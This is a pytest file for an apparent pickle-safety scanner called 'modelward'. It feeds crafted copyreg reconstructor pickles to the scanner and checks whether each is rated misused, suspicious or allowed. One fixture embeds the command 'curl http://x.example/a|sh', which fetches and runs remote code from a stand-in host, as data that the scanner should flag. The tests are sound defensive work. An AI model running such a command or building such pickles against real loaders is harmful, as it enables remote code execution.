from __future__ import annotations

import pytest
from tests.formats.assemble import EMPTY_DICT, EMPTY_TUPLE, NONE, call, fetch, number, pickle, run, text, tup

from modelward.formats.pickle.judge import Opinion, judge
from modelward.formats.pickle.makers import making
from modelward.formats.pickle.values import Container, Global, Unknown


def of(*parts: bytes) -> list[Opinion]:
    return [judge(event).opinion for event in run(pickle(*parts))[1]]


RECONSTRUCT = ("copyreg", "_reconstructor")
NAMESPACE = fetch("argparse", "Namespace")
OBJECT, DICT, BYTES = fetch("builtins", "object"), fetch("builtins", "dict"), fetch("builtins", "bytes")


@pytest.mark.parametrize(
    ("parts", "opinion"),
    [
        ((call(*RECONSTRUCT, NAMESPACE, OBJECT, text("x")),), Opinion.MISUSED),
        ((call(*RECONSTRUCT, NAMESPACE, BYTES, number(1 << 30)),), Opinion.MISUSED),
        ((call(*RECONSTRUCT, NAMESPACE, DICT, EMPTY_DICT + text("k") + NONE + b"s"),), Opinion.MISUSED),
        ((call(*RECONSTRUCT, fetch("mylib", "Net"), BYTES, text("curl http://x.example/a|sh")),),
         Opinion.SUSPICIOUS),
        ((call(*RECONSTRUCT, NAMESPACE, OBJECT),), Opinion.MISUSED),
        ((call("copyreg", "__newobj__", NAMESPACE, text("x")),), Opinion.MISUSED),
        ((call("copyreg", "__newobj_ex__", NAMESPACE, tup(text("x")), EMPTY_DICT),), Opinion.MISUSED),
        ((call("copyreg", "__newobj_ex__", NAMESPACE, EMPTY_TUPLE, EMPTY_DICT + text("k") + NONE + b"s"),),
         Opinion.MISUSED),
        ((call("copyreg", "__newobj_ex__", fetch("builtins", "ValueError"), EMPTY_TUPLE,
               EMPTY_DICT + text("k") + NONE + b"s"),), Opinion.MISUSED),
        ((fetch("builtins", "ValueError"), EMPTY_TUPLE, EMPTY_DICT, text("k"), NONE, b"s\x92"),
         Opinion.MISUSED),
        ((call("copyreg", "__newobj_ex__", NAMESPACE),), Opinion.MISUSED),
    ],
)  # fmt: skip
def test_what_copyreg_is_told_to_make_is_judged_with_all_that_it_is_given(
    parts: tuple[bytes, ...], opinion: Opinion
) -> None:
    assert of(*parts)[-1] is opinion


@pytest.mark.parametrize(
    "parts",
    [
        (call(*RECONSTRUCT, NAMESPACE, OBJECT, NONE),),
        (call(*RECONSTRUCT, fetch("sklearn.utils", "Bunch"), DICT, EMPTY_DICT + text("k") + NONE + b"s"),),
        (call(*RECONSTRUCT, fetch("torch.torch_version", "TorchVersion"), fetch("builtins", "str"),
              text("2.1")),),
        (call("copyreg", "__newobj_ex__", NAMESPACE, EMPTY_TUPLE, EMPTY_DICT),),
        (NAMESPACE, EMPTY_TUPLE, EMPTY_DICT, b"\x92"),
    ],
)  # fmt: skip
def test_near_miss_what_python_writes_for_copyreg(parts: tuple[bytes, ...]) -> None:
    assert set(of(*parts)) == {Opinion.ALLOWED}


def test_arguments_that_cannot_be_told_are_not() -> None:
    maker = Global("copyreg", "__newobj__", 0)
    assert making(maker, Unknown("x"))[0] is making(maker, Container("tuple", [maker], lost=1))[0] is None
    assert making(Global("copyreg", "_reconstructor", 0), Container("tuple", [maker]))[2]
